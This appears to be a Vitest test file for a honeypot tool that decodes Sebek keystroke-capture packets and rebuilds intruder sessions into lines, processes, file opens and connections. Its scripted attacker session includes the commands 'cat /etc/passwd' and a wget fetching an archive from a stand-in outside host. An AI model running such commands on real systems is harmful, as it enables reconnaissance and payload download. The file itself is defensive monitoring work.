import { afterEach, describe, expect, it, vi } from 'vitest';
import fc from 'fast-check';
import { createSocket } from 'node:dgram';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { decode } from '../src/packet/decode.js';
import { ethernet } from '../src/packet/build.js';
import { encodePcapng, readCapture } from '../src/packet/pcap.js';
import { LinkType } from '../src/packet/types.js';
import { analyzeCapture } from '../src/sebek/analyze.js';
import { SebekExtractor, type CapturedSebekRecord } from '../src/sebek/extract.js';
import { decodeSebekPayload, encodeSebekRecord, encodeSocketData, type SebekRecordInput } from '../src/sebek/format.js';
import { SebekSession, type KeystrokeLine } from '../src/sebek/session.js';
import { FIXTURE_DROP, FIXTURE_MAGIC, scriptedSession, sebekDatagram, sessionCapture, sessionFixture } from '../src/sebek/simulate.js';
import { sendSession } from '../src/sebek/simulate-send.js';
import { SebekStore } from '../src/sebek/store.js';
import { escapeBytes } from '../src/sebek/text.js';
import { main } from '../src/cli/main.js';

const repoRoot = resolve(import.meta.dirname, '..');
const MAGIC = 0xdeadbeef;

const arbCom = fc.string({ unit: fc.integer({ min: 1, max: 255 }).map((c) => String.fromCharCode(c)), maxLength: 12 });
const arbRecord = (version: 2 | 3): fc.Arbitrary<SebekRecordInput> =>
  fc.record({
    version: fc.constant(version),
    type: fc.integer({ min: 0, max: 5 }),
    counter: fc.integer({ min: 0, max: 0xffffffff }),
    timeSec: fc.integer({ min: 0, max: 0xffffffff }),
    timeUsec: fc.integer({ min: 0, max: 999_999 }),
    ppid: version === 3 ? fc.integer({ min: 0, max: 0xffffffff }) : fc.constant(0),
    pid: fc.integer({ min: 0, max: 0xffffffff }),
    uid: fc.integer({ min: 0, max: 0xffffffff }),
    fd: fc.integer({ min: 0, max: 0xffffffff }),
    inode: version === 3 ? fc.integer({ min: 0, max: 0xffffffff }) : fc.constant(0),
    com: arbCom,
    data: fc.uint8Array({ maxLength: 120 }),
  });

function asCaptured(r: SebekRecordInput, client = '10.0.0.5'): CapturedSebekRecord {
  const d = decodeSebekPayload(encodeSebekRecord(r, MAGIC), MAGIC);
  if (!d.ok) throw new Error(d.reason);
  return { ...d.records[0], client, capSec: r.timeSec, capUsec: r.timeUsec };
}

function linesOf(records: CapturedSebekRecord[]): KeystrokeLine[] {
  const s = new SebekSession();
  const out: KeystrokeLine[] = [];
  for (const r of records) for (const e of s.add(r)) if (e.kind === 'line') out.push(e.line);
  for (const e of s.finish()) if (e.kind === 'line') out.push(e.line);
  return out;
}

describe('Sebek record format', () => {
  it('property: decode(encode(records)) gives the same records, v2 and v3, several per payload', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.array(arbRecord(3), { minLength: 1, maxLength: 4 }), fc.array(arbRecord(2), { minLength: 1, maxLength: 4 })),
        (recs) => {
          const payload = Buffer.concat(recs.map((r) => encodeSebekRecord(r, MAGIC)));
          const d = decodeSebekPayload(payload, MAGIC);
          expect(d.ok).toBe(true);
          // the command name's bytes come back as sent; its text is those bytes escaped (never a control character)
          expect(
            d.records.map((r) => ({
              version: r.version,
              type: r.type,
              counter: r.counter,
              timeSec: r.timeSec,
              timeUsec: r.timeUsec,
              ppid: r.ppid,
              pid: r.pid,
              uid: r.uid,
              fd: r.fd,
              inode: r.inode,
              com: Buffer.from(r.comBytes).toString('latin1'),
              data: Array.from(r.data),
            })),
          ).toEqual(recs.map((r) => ({ ...r, data: Array.from(r.data) })));
          for (const r of d.records) {
            expect(r.com).toBe(escapeBytes(r.comBytes));
            expect(r.com).not.toMatch(/[\u0000-\u001f\u007f-\u00ff]/);
          }
          expect(d.records.every((r) => r.magic === MAGIC && !r.usecSwapped)).toBe(true);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('header sizes are 56 (v3) and 48 (v2) bytes, big-endian', () => {
    const r: SebekRecordInput = {
      type: 3,
      counter: 0x01020304,
      timeSec: 5,
      timeUsec: 6,
      ppid: 7,
      pid: 8,
      uid: 9,
      fd: 10,
      inode: 11,
      com: 'sh',
      data: Uint8Array.of(0x41),
    };
    const v3 = encodeSebekRecord(r, 0x11223344);
    const v2 = encodeSebekRecord({ ...r, version: 2 }, 0x11223344);
    expect(v3.length).toBe(57);
    expect(v2.length).toBe(49);
    expect(Array.from(v3.subarray(0, 12))).toEqual([0x11, 0x22, 0x33, 0x44, 0, 3, 0, 3, 1, 2, 3, 4]);
    expect(Array.from(v3.subarray(20, 24))).toEqual([0, 0, 0, 7]); // parent_pid in v3
    expect(Array.from(v2.subarray(20, 24))).toEqual([0, 0, 0, 8]); // pid first in v2
    expect(Array.from(v3.subarray(52, 56))).toEqual([0, 0, 0, 1]);
  });

  it('Windows client: time_usec in host order is recognised', () => {
    const r: SebekRecordInput = {
      type: 0,
      counter: 1,
      timeSec: 100,
      timeUsec: 123456,
      pid: 1,
      uid: 0,
      fd: 0,
      com: 'cmd.exe',
      data: Uint8Array.of(0x61),
    };
    const d = decodeSebekPayload(encodeSebekRecord(r, MAGIC, { windowsUsec: true }), MAGIC);
    expect(d.ok && d.records[0].timeUsec).toBe(123456);
    expect(d.records[0].usecSwapped).toBe(true);
  });

  it('socket data: 15 bytes decoded with the call name', () => {
    const data = encodeSocketData({ dip: '1.2.3.4', dport: 80, sip: '10.0.0.5', sport: 4000, call: 3, proto: 6 });
    const d = decodeSebekPayload(
      encodeSebekRecord({ type: 2, counter: 0, timeSec: 0, timeUsec: 0, pid: 1, uid: 0, fd: 3, com: 'wget', data }, MAGIC),
    );
    expect(d.records[0].socket).toEqual({ dip: '1.2.3.4', dport: 80, sip: '10.0.0.5', sport: 4000, call: 3, callName: 'connect', proto: 6 });
  });

  it('bad payloads: wrong magic, version, cut header, bogus length, with the records before kept', () => {
    const good = encodeSebekRecord({ type: 0, counter: 0, timeSec: 0, timeUsec: 0, pid: 1, uid: 0, fd: 0, com: 'sh', data: Uint8Array.of(1) }, MAGIC);
    expect(decodeSebekPayload(good, 0x12345678)).toMatchObject({ ok: false, reason: 'magic 0xdeadbeef is not the site magic 0x12345678' });
    const v9 = good.slice();
    v9[5] = 9;
    expect(decodeSebekPayload(v9)).toMatchObject({ ok: false, reason: 'version 9 is not 2 or 3' });
    expect(decodeSebekPayload(good.subarray(0, 30))).toMatchObject({ ok: false, reason: 'header cut short: 30 of 56 bytes' });
    const long = good.slice();
    long[55] = 200;
    expect(decodeSebekPayload(long)).toMatchObject({ ok: false, reason: 'record length 200 runs past the packet (1 bytes left)' });
    const two = Buffer.concat([good, good.subarray(0, 10)]);
    const d = decodeSebekPayload(two, MAGIC);
    expect(d.ok).toBe(false);
    expect(d.records.length).toBe(1);
  });

  it('property: random bytes never throw, in payloads or whole frames to the port; garbage is counted', () => {
    const ex = new SebekExtractor({ magic: MAGIC });
    let toPort = 0;
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), fc.boolean(), (bytes, wrap) => {
        expect(() => decodeSebekPayload(bytes, MAGIC)).not.toThrow();
        expect(() => decodeSebekPayload(bytes)).not.toThrow();
        if (wrap) {
          toPort++;
          const recs = ex.fromFrame(LinkType.ETHERNET, ethernet(sebekDatagram(bytes, { src: '10.0.0.9', dst: '10.0.0.1' })));
          expect(recs.length).toBe(0); // random bytes do not start with the magic (fast-check would need 2^-32 luck)
        } else {
          expect(() => ex.fromFrame(LinkType.ETHERNET, bytes)).not.toThrow();
          expect(() => ex.fromIpDatagram(bytes)).not.toThrow();
        }
      }),
      { numRuns: 1000 },
    );
    expect(ex.stats.onPort).toBeGreaterThanOrEqual(toPort);
    expect(ex.stats.garbage).toBeGreaterThanOrEqual(toPort);
    expect(ex.stats.garbageSamples.length).toBeLessThanOrEqual(20);
  });
});

describe('Sebek session reconstruction', () => {
  const key = (pid: number, fd: number, text: string, t0 = 1000): CapturedSebekRecord[] =>
    [...text].map((ch, i) =>
      asCaptured({
        type: 0,
        counter: t0 + i,
        timeSec: t0 + i,
        timeUsec: 0,
        ppid: 1,
        pid,
        uid: 0,
        fd,
        inode: 0,
        com: 'bash',
        data: Uint8Array.of(ch.charCodeAt(0)),
      }),
    );

  it('backspace, \\r\\n once, control bytes escaped, high bytes as \\xNN, unterminated line flushed', () => {
    const lines = linesOf(key(1, 0, '\x7fls\x08\x08pwd\r\nid\x03\x1b[A\n\nvi caf\xe9\rtail'));
    expect(lines.map((l) => [l.line, l.terminated])).toEqual([
      ['pwd', true],
      ['id^C^[[A', true],
      ['', true],
      ['vi caf\\xe9', true],
      ['tail', false],
    ]);
    expect(lines[0].timeSec).toBe(1005); // the 'p': "ls" before it was erased
  });

  it('property: lines are rebuilt per (client, pid, fd) whatever the interleaving', () => {
    const arbLine = fc.stringMatching(/^[a-z ./-]{0,12}$/);
    fc.assert(
      fc.property(
        fc.array(arbLine, { maxLength: 4 }),
        fc.array(arbLine, { maxLength: 4 }),
        fc.array(fc.boolean(), { maxLength: 200 }),
        (a, b, order) => {
          const sa = key(10, 0, a.map((l) => `${l}\r`).join(''));
          const sb = key(11, 5, b.map((l) => `${l}\n`).join(''));
          const merged: CapturedSebekRecord[] = [];
          let i = 0;
          let j = 0;
          for (const pickA of order) {
            if (pickA && i < sa.length) merged.push(sa[i++]);
            else if (j < sb.length) merged.push(sb[j++]);
          }
          merged.push(...sa.slice(i), ...sb.slice(j));
          const lines = linesOf(merged);
          expect(lines.filter((l) => l.pid === 10 && l.fd === 0).map((l) => l.line)).toEqual(a);
          expect(lines.filter((l) => l.pid === 11 && l.fd === 5).map((l) => l.line)).toEqual(b);
        },
      ),
    );
  });

  it('the scripted session gives its commands, processes, opens, connect and forks', () => {
    const recs = scriptedSession().map((r) => asCaptured(r));
    const s = new SebekSession();
    const events = recs.flatMap((r) => s.add(r)).concat(s.finish());
    expect(events.filter((e) => e.kind === 'line').map((e) => e.kind === 'line' && e.line.line)).toEqual([
      'uname -a',
      'cat /etc/passwd',
      'wget http://198.51.100.7/x.tgz',
      'ls^I',
      'exit',
    ]);
    expect(events.filter((e) => e.kind === 'open').map((e) => e.kind === 'open' && [e.open.pid, e.open.com, e.open.path])).toEqual([
      [2003, 'cat', '/etc/passwd'],
      [2004, 'wget', 'x.tgz'],
    ]);
    const sockets = events.flatMap((e) => (e.kind === 'socket' ? [e.socket] : []));
    expect(sockets.map((x) => `${x.callName} ${x.sip}:${x.sport}->${x.dip}:${x.dport}/${x.proto}`)).toEqual([
      'socket 10.0.0.5:40001->198.51.100.7:80/6',
      'connect 10.0.0.5:40001->198.51.100.7:80/6',
    ]);
    expect(events.filter((e) => e.kind === 'fork').map((e) => e.kind === 'fork' && [e.fork.pid, e.fork.ppid])).toEqual([
      [2002, 2001],
      [2003, 2001],
      [2004, 2001],
    ]);
    // (the map is kept in least recently used order: sorted here)
    const procs = [...s.processes.values()].sort((a, b) => a.pid - b.pid).map((p) => [p.pid, p.ppid, p.coms.join('>')]);
    expect(procs).toEqual([
      [2001, 2000, 'bash'],
      [2002, 2001, 'bash>uname'],
      [2003, 2001, 'bash>cat'],
      [2004, 2001, 'bash>wget'],
    ]);
    expect(s.loss.get('10.0.0.5')).toMatchObject({ lost: 0, gaps: 0, received: recs.length });
  });

  it('property: loss equals the records dropped between the first and last received, across a counter wrap', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: 0xffffffff }),
        fc.integer({ min: 2, max: 120 }),
        fc.array(fc.nat(), { maxLength: 40 }),
        (start, n, dropIdx) => {
          const drop = new Set(dropIdx.map((d) => d % n));
          const kept: number[] = [];
          for (let i = 0; i < n; i++) if (!drop.has(i)) kept.push(i);
          const s = new SebekSession();
          let gapEvents = 0;
          for (const i of kept) {
            const r = asCaptured({
              type: 1,
              counter: (start + i) % 0x1_0000_0000,
              timeSec: i,
              timeUsec: 0,
              pid: 1,
              uid: 0,
              fd: 1,
              com: 'x',
              data: new Uint8Array(0),
            });
            gapEvents += s.add(r).filter((e) => e.kind === 'gap').length;
          }
          const l = s.loss.get('10.0.0.5');
          if (kept.length === 0) {
            expect(l).toBeUndefined();
            return;
          }
          const first = kept[0];
          const last = kept[kept.length - 1];
          const expectedLost = last - first + 1 - kept.length;
          let runs = 0;
          for (let k = 1; k < kept.length; k++) if (kept[k] !== kept[k - 1] + 1) runs++;
          expect(l?.lost).toBe(expectedLost);
          expect(l?.gaps).toBe(runs);
          expect(gapEvents).toBe(runs);
          expect(l?.backwards).toBe(0);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('a counter going backwards (client restart) is not loss; clients are counted apart', () => {
    const s = new SebekSession();
    const rec = (counter: number, client: string) => ({
      ...asCaptured({ type: 1, counter, timeSec: 0, timeUsec: 0, pid: 1, uid: 0, fd: 1, com: 'x', data: new Uint8Array(0) }),
      client,
    });
    for (const c of [5, 6, 7, 0, 1, 3]) s.add(rec(c, '10.0.0.5'));
    for (const c of [0xfffffffe, 0xffffffff, 0, 2]) s.add(rec(c, '10.0.0.6'));
    expect(s.loss.get('10.0.0.5')).toMatchObject({ received: 6, lost: 1, gaps: 1, backwards: 1, lastCounter: 3 });
    expect(s.loss.get('10.0.0.6')).toMatchObject({ received: 4, lost: 1, gaps: 1, backwards: 0, lastCounter: 2 });
  });
});

describe('Sebek simulator and extraction from frames', () => {
  it('packets are IPv4/UDP, TTL 32, UDP checksum 0, port 1101 both sides, valid IP header checksum', () => {
    const { pcap } = sessionCapture({ magic: MAGIC });
    const recs = [...readCapture(pcap)];
    expect(recs.length).toBe(scriptedSession().length);
    for (const r of recs) {
      const p = decode(r.linktype, r.data);
      expect(p.error).toBeUndefined();
      expect(p.badChecksum).toBe(false);
      expect(p.ip4?.ttl).toBe(32);
      expect(p.udp?.checksum).toBe(0);
      expect([p.udp?.srcPort, p.udp?.dstPort]).toEqual([1101, 1101]);
    }
  });

  it('property: simulated records, through frames and the extractor, come back unchanged', () => {
    fc.assert(
      fc.property(
        fc.array(arbRecord(3), { minLength: 1, maxLength: 10 }),
        fc.integer({ min: 1, max: 65535 }),
        fc.integer({ min: 0, max: 0xffffffff }),
        (records, port, magic) => {
          const { pcap, captured } = sessionCapture({ magic, port, records });
          const ex = new SebekExtractor({ magic, port });
          const got = [...readCapture(pcap)].flatMap((r) => ex.fromFrame(r.linktype, r.data, r.tsSec, r.tsUsec));
          expect(got.map((r) => ({ ...r, data: Array.from(r.data) }))).toEqual(
            captured.map((r) => {
              const d = decodeSebekPayload(encodeSebekRecord(r, magic)).records[0];
              return { ...d, data: Array.from(d.data), client: '10.0.0.5', capSec: r.timeSec, capUsec: r.timeUsec };
            }),
          );
          expect(got.map((r) => r.counter)).toEqual(records.map((r) => r.counter));
          expect(ex.stats.garbage).toBe(0);
        },
      ),
      { numRuns: 100 },
    );
  });

  it('the committed fixture is what the simulator makes; it decodes with the gaps and the garbage put in', async () => {
    const file = join(repoRoot, 'fixtures', 'sebek', 'session.pcap');
    expect(Buffer.compare(readFileSync(file), Buffer.from(sessionFixture()))).toBe(0);
    const r = await analyzeCapture(file, { magic: FIXTURE_MAGIC });
    expect(r.captureError).toBeUndefined();
    const sent = scriptedSession().length;
    expect(r.stats.records).toBe(sent - FIXTURE_DROP.length);
    expect(r.stats.garbage).toBe(1);
    expect(r.session.loss.get('10.0.0.5')).toMatchObject({ lost: FIXTURE_DROP.length, gaps: 2 });
  });

  it('reads Sebek from pcapng too (nanosecond interface)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'hw-sebek-ng-'));
    try {
      const frames = [...readCapture(sessionFixture())];
      const file = join(dir, 's.pcapng');
      writeFileSync(file, encodePcapng(frames, { interfaces: [{ linktype: LinkType.ETHERNET, tsresol: 9 }], littleEndian: false }));
      const r = await analyzeCapture(file, { magic: FIXTURE_MAGIC });
      expect(r.captureError).toBeUndefined();
      expect(r.stats.records).toBe(scriptedSession().length - FIXTURE_DROP.length);
      expect(r.session.loss.get('10.0.0.5')).toMatchObject({ lost: 3, gaps: 2 });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a truncated capture keeps the records before the cut and reports file and offset', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'hw-sebek-'));
    try {
      const whole = sessionFixture();
      const file = join(dir, 'cut.pcap');
      writeFileSync(file, whole.subarray(0, whole.length - 30));
      const r = await analyzeCapture(file, { magic: FIXTURE_MAGIC });
      expect(r.captureError?.message).toMatch(new RegExp(`^${file}: byte \\d+: truncated`));
      expect(r.stats.records).toBe(scriptedSession().length - FIXTURE_DROP.length - 1);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('sendSession sends real datagrams over a UDP socket (loopback)', async () => {
    const rx = createSocket('udp4');
    const got: Buffer[] = [];
    rx.on('message', (m) => got.push(m));
    await new Promise<void>((r) => rx.bind(0, '127.0.0.1', () => r()));
    try {
      const port = rx.address().port;
      const summary = await sendSession({ dst: '127.0.0.1', magic: MAGIC, port, srcPort: 0, interval: 0, drop: [3], garbage: 1 });
      await new Promise((r) => setTimeout(r, 100));
      expect(got.length).toBe(summary.sent + 1);
      const s = new SebekSession();
      let garbage = 0;
      for (const m of got) {
        const d = decodeSebekPayload(new Uint8Array(m), MAGIC);
        if (!d.ok) garbage++;
        for (const rec of d.records) s.add({ ...rec, client: '127.0.0.1', capSec: 0, capUsec: 0 });
      }
      expect(garbage).toBe(1);
      expect(s.loss.get('127.0.0.1')).toMatchObject({ lost: 1, gaps: 1 });
    } finally {
      rx.close();
    }
  });
});

describe('Sebek store (SQLite) and JSON lines', () => {
  it('stores records, processes, keystroke lines, opens, sockets, forks and loss; exports JSON lines', () => {
    const dir = mkdtempSync(join(tmpdir(), 'hw-sebek-db-'));
    try {
      const dbFile = join(dir, 'sebek.db');
      const records = scriptedSession()
        .filter((_, i) => i !== 3)
        .map((r) => asCaptured(r));
      const store = new SebekStore(dbFile);
      store.ingest(records.slice(0, 30));
      store.ingest(records.slice(30));
      store.finish();
      const db = store.db;
      expect(db.prepare('SELECT count(*) n FROM records').get()).toEqual({ n: records.length });
      expect(
        db
          .prepare('SELECT line FROM keystroke_lines ORDER BY id')
          .all()
          .map((r) => (r as { line: string }).line),
      ).toEqual([
        'unae -a',
        'cat /etc/passwd',
        'wget http://198.51.100.7/x.tgz',
        'ls^I',
        'exit', // the 'm' was lost
      ]);
      expect(db.prepare('SELECT pid, com, coms FROM processes ORDER BY pid').all()).toEqual([
        { pid: 2001, com: 'bash', coms: '["bash"]' },
        { pid: 2002, com: 'uname', coms: '["bash","uname"]' },
        { pid: 2003, com: 'cat', coms: '["bash","cat"]' },
        { pid: 2004, com: 'wget', coms: '["bash","wget"]' },
      ]);
      expect(db.prepare('SELECT path FROM opens ORDER BY id').all()).toEqual([{ path: '/etc/passwd' }, { path: 'x.tgz' }]);
      expect(db.prepare('SELECT call_name, dip, dport FROM sockets ORDER BY id').all()).toEqual([
        { call_name: 'socket', dip: '198.51.100.7', dport: 80 },
        { call_name: 'connect', dip: '198.51.100.7', dport: 80 },
      ]);
      expect(db.prepare('SELECT count(*) n FROM forks').get()).toEqual({ n: 3 });
      expect(db.prepare('SELECT client, lost, gaps FROM loss').all()).toEqual([{ client: '10.0.0.5', lost: 1, gaps: 1 }]);
      const lines = [...store.exportJsonl()].map((l) => JSON.parse(l) as { event_type: string; data?: string; counter?: number });
      store.close();
      expect(lines.filter((l) => l.event_type === 'sebek_record').length).toBe(records.length);
      const first = lines[0];
      expect(Buffer.from(first.data ?? '', 'base64')).toEqual(Buffer.from(records[0].data));
      expect(lines.filter((l) => l.event_type === 'sebek_loss')).toEqual([
        {
          event_type: 'sebek_loss',
          client: '10.0.0.5',
          received: records.length,
          lost: 1,
          gaps: 1,
          backwards: 0,
          first_counter: 0,
          last_counter: records.length,
        },
      ]);
      // Reopening keeps the data.
      const again = new SebekStore(dbFile);
      expect(again.db.prepare('SELECT count(*) n FROM keystroke_lines').get()).toEqual({ n: 5 });
      again.close();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('honeywall sebek', () => {
  const fixture = join(repoRoot, 'fixtures', 'sebek', 'session.pcap');
  let out = '';
  let err = '';
  afterEach(() => vi.restoreAllMocks());
  const run = async (...args: string[]): Promise<number> => {
    out = '';
    err = '';
    vi.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => ((out += String(s)), true));
    vi.spyOn(process.stderr, 'write').mockImplementation((s: string | Uint8Array) => ((err += String(s)), true));
    try {
      return await main(['node', 'honeywall', 'sebek', ...args]);
    } finally {
      vi.restoreAllMocks();
    }
  };

  it('text: each process with its command lines, opens and connects; loss and garbage', async () => {
    expect(await run(fixture, '--magic', String(FIXTURE_MAGIC))).toBe(0);
    expect(out).toMatch(/^10\.0\.0\.5 pid 2001 \(ppid 2000, uid 0\) bash: \d+ records$/m);
    expect(out).toMatch(/fd 0 \$ cat \/etc\/passwd$/m);
    expect(out).toMatch(/open \/etc\/passwd \(fd 3, inode 131075\)$/m);
    expect(out).toMatch(/connect tcp 10\.0\.0\.5:40001 -> 198\.51\.100\.7:80 \(fd 3\)$/m);
    expect(out).toMatch(/^client 10\.0\.0\.5: \d+ records, 3 lost in 2 gaps$/m);
    expect(out).toMatch(/1 garbage datagrams to port 1101/);
  });

  it('json: every record and the loss per client', async () => {
    expect(await run(fixture, '--format', 'json', '--magic', '0x2a2a2a2a')).toBe(0);
    const objs = out
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(objs.filter((o) => o.event_type === 'sebek_record').length).toBe(scriptedSession().length - FIXTURE_DROP.length);
    expect(objs.filter((o) => o.event_type === 'sebek_loss')).toMatchObject([{ client: '10.0.0.5', lost: 3, gaps: 2 }]);
    expect(objs.at(-1)).toMatchObject({ event_type: 'sebek_summary', garbage: 1, capture_error: null });
  });

  it('--db stores what it decodes', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'hw-sebek-cli-'));
    try {
      const db = join(dir, 'sebek.db');
      expect(await run(fixture, '--db', db)).toBe(0);
      const st = new SebekStore(db);
      expect(st.db.prepare('SELECT count(*) n FROM records').get()).toEqual({ n: scriptedSession().length - FIXTURE_DROP.length });
      expect(st.db.prepare('SELECT lost, gaps FROM loss').get()).toEqual({ lost: 3, gaps: 2 });
      st.close();
      expect(await run(fixture, '--db', join(dir, 'no', 'such', 'dir', 'x.db'))).toBe(2);
      expect(err).toMatch(/x\.db: cannot open the Sebek database/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('wrong magic: nothing decoded, all counted as garbage; usage errors exit 2', async () => {
    expect(await run(fixture, '--magic', '7', '--format', 'json')).toBe(0);
    expect(out).not.toMatch(/sebek_record/);
    expect(out).toMatch(/"garbage":77/);
    expect(await run(fixture, '--magic', 'zz')).toBe(2);
    expect(err).toBe('honeywall: --magic: "zz" is not a 32-bit number (decimal or 0x hex)\n');
    expect(await run('/nonexistent.pcap')).toBe(2);
    expect(await run(fixture, '--port', '70000')).toBe(2);
  });
});
